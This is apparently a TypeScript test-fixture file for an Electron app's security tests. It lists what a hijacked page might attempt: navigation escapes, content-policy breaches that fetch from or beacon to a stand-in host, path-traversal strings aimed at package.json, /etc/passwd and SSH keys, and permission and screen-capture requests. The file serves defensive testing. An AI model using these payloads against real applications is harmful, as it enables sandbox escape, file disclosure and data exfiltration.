import type { Session } from 'electron';

/** What a page that has been taken over tries, as JavaScript to be run in it. */

/**
 * Ways out of the page, each given an address. Those that answer `null` opened nothing; the others are refused later,
 * by the main process or by the page's policy.
 */
export const waysOut = {
  'an assignment to location': (url: string) => {
    location.href = url;
  },
  'location.replace': (url: string) => location.replace(url),
  'a link': (url: string) => {
    Object.assign(document.createElement('a'), { href: url }).click();
  },
  'a meta refresh': (url: string) => {
    document.head.append(
      Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: `0;url=${url}` }),
    );
  },
  'a form': (url: string) => {
    document.body.appendChild(Object.assign(document.createElement('form'), { action: url })).submit();
  },
  'a frame': (url: string) => {
    document.body.append(Object.assign(document.createElement('iframe'), { src: url }));
  },
  'a frame that moves on': (url: string) => {
    const { contentWindow } = document.body.appendChild(document.createElement('iframe'));
    if (contentWindow) contentWindow.location.href = url;
  },
  'a frame that moves its top': (url: string) => {
    const top = document.body.appendChild(document.createElement('iframe')).contentWindow?.top;
    if (top) top.location.href = url;
  },
  'window.open': (url: string) => window.open(url),
  'window.open with a name and features': (url: string) =>
    window.open(url, 'shared', 'popup,nodeIntegration=yes,sandbox=no'),
  'a link to a new window': (url: string) => {
    Object.assign(document.createElement('a'), { href: url, target: '_blank' }).click();
    return null;
  },
  'a link to a named window': (url: string) => {
    Object.assign(document.createElement('a'), { href: url, target: 'shared' }).click();
    return null;
  },
  'a form to a new window': (url: string) => {
    const form = Object.assign(document.createElement('form'), { action: url, method: 'post', target: '_blank' });
    document.body.appendChild(form).submit();
    return null;
  },
  'a <webview>': (url: string) => {
    const view = document.createElement('webview');
    view.setAttribute('src', url);
    view.setAttribute('nodeintegration', 'yes');
    document.body.append(view);
    // A real one would have methods of its own.
    return 'loadURL' in view ? view : null;
  },
} as const;

/** Where every way is tried; `location` goes to all of the next list too. */
export const outsideAddresses: readonly string[] = [
  'https://outside.test/stolen',
  'zoommtg://zoom.us/join?confno=1',
  'file:///etc/passwd',
];

export const otherAddresses: readonly string[] = [
  'http://outside.test/stolen',
  'http://127.0.0.1:9/stolen',
  'zoomus://zoom.us/join?confno=1',
  'mailto:somebody@outside.test',
  'usher://start/1',
  'ftp://outside.test/stolen',
  'data:text/html,stolen',
  'javascript:void(document.title="stolen")',
  'chrome://gpu/',
  'devtools://devtools/bundled/inspector.html',
  'view-source:app://usher/index.html',
  'app://usher/index.html?elsewhere',
  'app://usher/room.html',
  'app://meeting/meeting.html?elsewhere',
  'app://meeting/room.html?elsewhere',
  'app://outside/index.html',
];

/**
 * What a page's policy has to refuse. The source may throw; otherwise the page has to report a violation of its policy.
 * `stolen` would be set by a script that runs; all addresses are at `outside.test`.
 */
export const policyBreaches: Readonly<Record<string, string>> = {
  'an inline script': `document.head.append(Object.assign(document.createElement('script'), { textContent: 'window.stolen = 1' }))`,
  'an inline handler': `{ const button = document.createElement('button'); button.setAttribute('onclick', 'window.stolen = 1'); document.body.append(button); button.click(); }`,
  'markup with a handler': `document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="window.stolen = 1">')`,
  eval: `(0, eval)('window.stolen = 1')`,
  'new Function': `new Function('window.stolen = 1')()`,
  'a timer with text': `{ if (setTimeout('window.stolen = 1', 0) === 0) throw new Error('refused'); }`,
  'a remote script': `document.head.append(Object.assign(document.createElement('script'), { src: 'https://outside.test/stolen.js' }))`,
  'a script in an address': `document.head.append(Object.assign(document.createElement('script'), { src: 'data:text/javascript,window.stolen = 1' }))`,
  'an imported module': `await import('https://outside.test/stolen.mjs')`,
  'a remote image': `Object.assign(new Image(), { src: 'http://outside.test/stolen.png' })`,
  'a remote sound': `Object.assign(new Audio(), { src: 'https://outside.test/stolen.mp3' })`,
  'a remote style sheet': `document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: 'https://outside.test/stolen.css' }))`,
  'a remote font': `await new FontFace('stolen', 'url(https://outside.test/stolen.woff2)').load()`,
  fetch: `await fetch('https://outside.test/stolen')`,
  'fetch of loopback': `await fetch('http://127.0.0.1:9/stolen')`,
  'an XMLHttpRequest': `{ const request = new XMLHttpRequest(); request.open('POST', 'https://outside.test/stolen'); request.send('x'); }`,
  'a beacon': `navigator.sendBeacon('https://outside.test/stolen', 'x')`,
  'a WebSocket': `new WebSocket('wss://outside.test/stolen')`,
  'an EventSource': `new EventSource('https://outside.test/stolen')`,
  'a remote worker': `new Worker('https://outside.test/stolen.js')`,
  'a plug-in': `document.body.append(Object.assign(document.createElement('object'), { data: 'https://outside.test/stolen' }))`,
  'another base': `document.head.append(Object.assign(document.createElement('base'), { href: 'https://outside.test/' }))`,
  'the other host of app: by fetch': `await fetch(location.host === 'usher' ? 'app://meeting/room.html' : 'app://usher/index.html')`,
  'the other host of app: by script': `document.head.append(Object.assign(document.createElement('script'), { src: (location.host === 'usher' ? 'app://meeting' : 'app://usher') + '/assets/index.js' }))`,
};

/** The same for pages of Usher's own, which need less than the SDK's. */
export const ownPolicyBreaches: Readonly<Record<string, string>> = {
  'an inline style': `document.head.append(Object.assign(document.createElement('style'), { textContent: 'body { color: red }' }))`,
  'a remote image over HTTPS': `Object.assign(new Image(), { src: 'https://outside.test/stolen.png' })`,
  'a file of its own by fetch': `await fetch('/index.html')`,
  'markup at all': `document.createElement('div').innerHTML = '<b>x</b>'`,
  'a worker from memory': `new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])))`,
  'compiled WebAssembly': `await WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))`,
};

/** Below the root, as a page or an attacker in it would write it; not one of them may be answered with a file. */
export const strayPaths: readonly string[] = [
  '/',
  '/.',
  '/..',
  '//',
  '/%',
  '/%zz',
  '/%e0%a4%a',
  '/%00',
  '/assets',
  '/assets/',
  '/index.html/',
  '/index.html%00',
  '/index.html%00.js',
  '/index.html%00/../package.json',
  '/index.html%2f',
  '/nothing.html',
  '/main.js',
  '/../package.json',
  '/../../package.json',
  '/..%2f..%2fpackage.json',
  '/%2e%2e/%2e%2e/package.json',
  '/%2e%2e%2f%2e%2e%2fpackage.json',
  '/%2E%2E%2F%2E%2E%2Fpackage.json',
  '/.%2e/.%2e/package.json',
  '/..%5c..%5cpackage.json',
  '/..\\..\\package.json',
  '/%2e%2e%5c%2e%2e%5cpackage.json',
  '/..%2f..\\package.json',
  '/....//....//package.json',
  '/..;/..;/package.json',
  '/%252e%252e%252f%252e%252e%252fpackage.json',
  '/%c0%ae%c0%ae/%c0%ae%c0%ae/package.json',
  '/%ef%bc%8e%ef%bc%8e/package.json',
  '/assets/..%2f..%2f..%2fpackage.json',
  '/assets/../../../package.json',
  '/assets%2f..%2f..%2f..%2fpackage.json',
  '/sdk/..%2f..%2f..%2fpackage.json',
  '/sdk/..%2fpackage.json',
  '/sdk/%2e%2e%2fpackage.json',
  '/sdk%2f..%2fpackage.json',
  '/sdk/package.json',
  '/sdk/',
  '/sdk',
  '/main/main.cjs',
  '/..%2fmain%2fmain.cjs',
  '/etc/passwd',
  '//etc/passwd',
  '/%2fetc%2fpasswd',
  '/%2f%2fetc%2fhosts.json',
  '/file:///etc/passwd',
  '/C:%5cWindows%5cwin.ini',
  '/~%2f.ssh%2fid_rsa',
  '/node_modules/zod/package.json',
];

type Permission = Parameters<NonNullable<Parameters<Session['setPermissionRequestHandler']>[0]>>[1];

/**
 * How a page asks for each permission that Electron knows; the compiler names one that is missing. The source ends in what
 * was granted. In brackets: why a permission has no request of its own.
 */
export const permissionRequests: { readonly [Name in Permission]: string } = {
  ar: `navigator.xr.requestSession('immersive-ar')`,
  'automatic-fullscreen': '(for web apps that are installed)',
  'background-fetch': '(needs a service worker, which app: cannot have)',
  'background-sync': `navigator.serviceWorker.register('/worker.js')`,
  'captured-surface-control': '(comes with display-capture)',
  'clipboard-read': 'navigator.clipboard.readText()',
  'clipboard-sanitized-write': `navigator.clipboard.writeText('stolen')`,
  'deprecated-sync-clipboard-read': '(asked from Electron 33 on, where a window has to switch it on first)',
  'display-capture': 'navigator.mediaDevices.getDisplayMedia({ video: true, audio: true })',
  fileSystem: '(asked after somebody has chosen a file in a dialog)',
  fullscreen: 'document.documentElement.requestFullscreen().then(() => document.fullscreenElement)',
  geolocation: 'new Promise((done, fail) => navigator.geolocation.getCurrentPosition(done, fail))',
  'geolocation-approximate': '(asked as geolocation)',
  'hand-tracking': `navigator.xr.requestSession('immersive-vr', { requiredFeatures: ['hand-tracking'] })`,
  hid: 'navigator.hid.requestDevice({ filters: [] })',
  'idle-detection': 'IdleDetector.requestPermission()',
  keyboardLock: '(holds keys in fullscreen only)',
  'local-fonts': 'queryLocalFonts()',
  'local-network': '(no policy of ours allows a connection there)',
  'local-network-access': '(no policy of ours allows a connection there)',
  'loopback-network': '(no policy of ours allows a connection there)',
  media:
    'navigator.mediaDevices.getUserMedia({ audio: true, video: true }).then((stream) => stream.getTracks().length)',
  mediaKeySystem: `navigator.requestMediaKeySystemAccess('org.w3.clearkey', [{ initDataTypes: ['keyids'], audioCapabilities: [{ contentType: 'audio/mp4; codecs="mp4a.40.2"' }] }])`,
  midi: 'navigator.requestMIDIAccess()',
  midiSysex: 'navigator.requestMIDIAccess({ sysex: true })',
  nfc: 'new NDEFReader().scan()',
  notifications: 'Notification.requestPermission()',
  openExternal: '(asked for by a way out of the page)',
  'payment-handler': '(needs a service worker, which app: cannot have)',
  'periodic-background-sync': '(needs a service worker, which app: cannot have)',
  'persistent-storage': 'navigator.storage.persist()',
  pointerLock: `new Promise((done, fail) => {
    document.addEventListener('pointerlockchange', () => done(document.pointerLockElement), { once: true });
    document.addEventListener('pointerlockerror', () => fail(new Error('refused')), { once: true });
    document.body.requestPointerLock();
  })`,
  'screen-wake-lock': `navigator.wakeLock.request('screen')`,
  sensors: `new Promise((done, fail) => {
    const sensor = new Accelerometer();
    sensor.onreading = done;
    sensor.onerror = ({ error }) => fail(error);
    sensor.start();
  })`,
  serial: 'navigator.serial.requestPort()',
  'smart-card': '(for web apps that are installed)',
  'speaker-selection': '(asked with the microphone)',
  'storage-access': '(a page has it in its own origin)',
  'system-wake-lock': `navigator.wakeLock.request('system')`,
  'top-level-storage-access': '(a page has it in its own origin)',
  usb: 'navigator.usb.requestDevice({ filters: [] })',
  vr: `navigator.xr.requestSession('immersive-vr')`,
  'web-app-installation': '(for pages of the web)',
  'web-printing': '(for web apps that are installed)',
  'window-management': 'getScreenDetails()',
  unknown: `navigator.bluetooth.requestDevice({ acceptAllDevices: true })`,
};

/** Ways to see the screen that name themselves as camera or microphone. */
export const screenRequests: Readonly<Record<string, string>> = {
  'the screen as a camera': `navigator.mediaDevices.getUserMedia({ video: { mandatory: { chromeMediaSource: 'desktop' } } })`,
  'the screen with its sound': `navigator.mediaDevices.getUserMedia({ audio: { mandatory: { chromeMediaSource: 'desktop' } }, video: { mandatory: { chromeMediaSource: 'desktop' } } })`,
};
